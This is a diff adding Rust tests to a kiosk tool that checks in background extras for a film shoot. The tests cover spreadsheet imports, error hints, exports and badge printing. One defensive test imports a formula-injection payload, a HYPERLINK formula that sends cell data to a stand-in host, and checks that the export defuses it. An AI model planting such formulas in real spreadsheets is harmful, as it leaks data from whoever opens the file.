@@ -657,3 +657,252 @@ fn a_whole_day_replays_from_the_command_line() {
     let purged = ok(&db, &["purge", "--date", "2026-11-28"]);
     assert!(purged.starts_with("Removed the phone numbers"), "{purged}");
 }
+
+#[test]
+fn the_union_count_and_the_hints_a_terminal_gets() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("kiosk.db");
+    demo_day(&db, true);
+    let set = ok(&db, &["day", "union-required", "40"]);
+    assert!(set.contains("needs 40 union background"), "{set}");
+    let settings: String = rusqlite::Connection::open(&db)
+        .unwrap()
+        .query_row(
+            "SELECT value FROM settings WHERE key = 'union_required.2026-11-28'",
+            [],
+            |r| r.get(0),
+        )
+        .unwrap();
+    assert_eq!(settings, "40");
+    let bad = kiosk(&db, &["day", "union-required", "lots"]);
+    assert!(!bad.status.success());
+    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a number of people"));
+    ok(&db, &["day", "union-required", "none"]);
+    // The core words an error without flags; the terminal adds the command.
+    let no_reason = kiosk(&db, &["badge", "void", "B-0003", "--reason", " "]);
+    let text = String::from_utf8_lossy(&no_reason.stderr);
+    assert!(text.contains("a reason is required"), "{text}");
+    assert!(text.contains("add --reason"), "{text}");
+    let moved = kiosk(&db, &["move", "--badge", "B-0001", "--area", "Nowhere"]);
+    let text = String::from_utf8_lossy(&moved.stderr);
+    assert!(text.contains("no holding area named 'Nowhere'"), "{text}");
+    assert!(text.contains("extras-kiosk areas list"), "{text}");
+}
+
+/// Opens the demo day with no skin; returns the binary's stderr of `import`.
+fn import_only(db: &Path, skin: &Path) -> Output {
+    ok(
+        db,
+        &[
+            "day",
+            "open",
+            "--date",
+            "2026-11-28",
+            "--title",
+            "Harbor Lights Ep 104",
+            "--call",
+            "06:30",
+            "--tz",
+            "America/Los_Angeles",
+        ],
+    );
+    kiosk(db, &["import", skin.to_str().unwrap()])
+}
+
+fn booked_names(db: &Path) -> Vec<(String, String)> {
+    let conn = rusqlite::Connection::open(db).unwrap();
+    let mut stmt = conn
+        .prepare(
+            "SELECT p.first_name, p.last_name FROM bookings b JOIN people p ON p.id = b.person_id
+             ORDER BY b.badge_no",
+        )
+        .unwrap();
+    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
+        .unwrap()
+        .collect::<Result<_, _>>()
+        .unwrap()
+}
+
+fn pair(first: &str, last: &str) -> (String, String) {
+    (first.to_string(), last.to_string())
+}
+
+#[test]
+fn skins_as_excel_saves_them_import_with_their_accents() {
+    // Windows-1252 with CRLF ("CSV (Comma delimited)" on Windows).
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("kiosk.db");
+    let out = import_only(&db, &fixture("skins/excel-windows-1252.csv"));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("read as Windows-1252, as Excel's CSV is; check the accented names")
+            && stderr.contains("José"),
+        "{stderr}"
+    );
+    assert_eq!(
+        booked_names(&db),
+        vec![pair("José", "Muñoz"), pair("Zoë", "Núñez")]
+    );
+
+    // UTF-16LE with a byte-order mark, tab-separated ("Unicode Text").
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("kiosk.db");
+    let out = import_only(&db, &fixture("skins/excel-unicode-text.txt"));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        booked_names(&db),
+        vec![
+            pair("José", "Muñoz"),
+            pair("Zoë", "Núñez"),
+            pair("王", "芳")
+        ]
+    );
+
+    // XLSX with two title rows and a blank row above the header.
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("kiosk.db");
+    let out = import_only(&db, &fixture("skins/title-rows.xlsx"));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        booked_names(&db),
+        vec![pair("José", "Muñoz"), pair("Zoë", "Núñez")]
+    );
+
+    // A tab-separated UTF-8 file named .tsv, and an areas file in Windows-1252.
+    let tsv = dir.path().join("skin.tsv");
+    std::fs::write(
+        &tsv,
+        "first_name\tlast_name\tcategory\tunion\tcall_time\nAna\tLopez, Jr\tBG\tSAG\t06:30\n",
+    )
+    .unwrap();
+    let db = dir.path().join("tsv.db");
+    let out = import_only(&db, &tsv);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(booked_names(&db), vec![pair("Ana", "Lopez, Jr")]);
+    let areas = dir.path().join("areas.csv");
+    std::fs::write(&areas, b"name,capacity\r\nCarpa S\xe1nchez,40\r\n").unwrap();
+    ok(&db, &["areas", "import", areas.to_str().unwrap()]);
+    assert!(ok(&db, &["areas", "list"]).contains("Carpa Sánchez"));
+}
+
+#[test]
+fn an_xlsx_with_no_header_in_its_first_rows_names_the_rows_looked_at() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("no-header.xlsx");
+    let mut book = rust_xlsxwriter::Workbook::new();
+    let sheet = book.add_worksheet();
+    sheet.write(0, 0, "Casting call").unwrap();
+    sheet.write(2, 0, "Names").unwrap();
+    sheet.write(2, 1, "Kinds").unwrap();
+    sheet.write(3, 0, "Ana Lopez").unwrap();
+    sheet.write(3, 1, "BG").unwrap();
+    book.save(&path).unwrap();
+    let db = dir.path().join("kiosk.db");
+    let out = import_only(&db, &path);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("no row from 1 to 10"), "{stderr}");
+    assert!(stderr.contains("no-header.xlsx:1:"), "{stderr}");
+    assert!(booked_names(&db).is_empty(), "nothing imported");
+}
+
+#[test]
+fn names_that_look_like_formulas_import_as_given_and_export_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("kiosk.db");
+    let out = import_only(&db, &fixture("skins/formula-names.csv"));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("lines 2, 3, 4, 5, 6 begin with =, +, -, @"),
+        "the warning names the lines: {stderr}"
+    );
+    let names = booked_names(&db);
+    assert_eq!(
+        names[0].0, "=HYPERLINK(\"http://x.example/?\"&A1)",
+        "kept as given"
+    );
+    assert_eq!(names[4].1, "=1+1");
+
+    let out_dir = dir.path().join("out");
+    std::fs::create_dir(&out_dir).unwrap();
+    ok(
+        &db,
+        &[
+            "export",
+            "--out",
+            out_dir.to_str().unwrap(),
+            "--format",
+            "csv,xlsx",
+            "--allow-open",
+        ],
+    );
+    let csv_path = out_dir.join("vouchers-2026-11-28.csv");
+    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
+    let mut seen = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula in the CSV: {cell}"
+            );
+            seen += 1;
+        }
+    }
+    assert!(seen > 0);
+    let text = std::fs::read_to_string(&csv_path).unwrap();
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(text.contains("'@SUM(A1)"), "{text}");
+    let count = std::fs::read_to_string(out_dir.join("background-count-2026-11-28.csv")).unwrap();
+    assert!(count.starts_with("category,union,"), "{count}");
+
+    use calamine::{Reader, Xlsx, open_workbook};
+    let mut book: Xlsx<_> = open_workbook(out_dir.join("vouchers-2026-11-28.xlsx")).unwrap();
+    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
+    let cells: Vec<String> = sheet.cells().map(|(_, _, c)| c.to_string()).collect();
+    for (first, last) in &names {
+        assert!(cells.contains(first), "the XLSX holds {first} exactly");
+        assert!(cells.contains(last), "the XLSX holds {last} exactly");
+    }
+    assert!(!cells.iter().any(|c| c.starts_with("'=")));
+}
+
+#[test]
+fn a_name_too_long_for_a_badge_is_cut_with_a_warning() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("kiosk.db");
+    let out = import_only(&db, &fixture("skins/long-names.csv"));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let pdf = dir.path().join("badges.pdf");
+    let out = kiosk(&db, &["badges", "--pdf", pdf.to_str().unwrap()]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "still exits 0: {stderr}");
+    assert!(stderr.contains("B-0001: first name cut to fit"), "{stderr}");
+    assert!(stderr.contains("B-0002: last name cut to fit"), "{stderr}");
+    // A real long name (30 and 41 characters) is cut too, still readable.
+    assert!(stderr.contains("B-0003: first name cut to fit"), "{stderr}");
+    let text = Command::new("pdftotext")
+        .args([pdf.to_str().unwrap(), "-"])
+        .output()
+        .expect("pdftotext (poppler-utils) is installed");
+    let text = String::from_utf8_lossy(&text.stdout);
+    assert!(text.contains("Maximiliana-Alex…"), "{text}");
+    assert!(text.contains('…'), "{text}");
+}
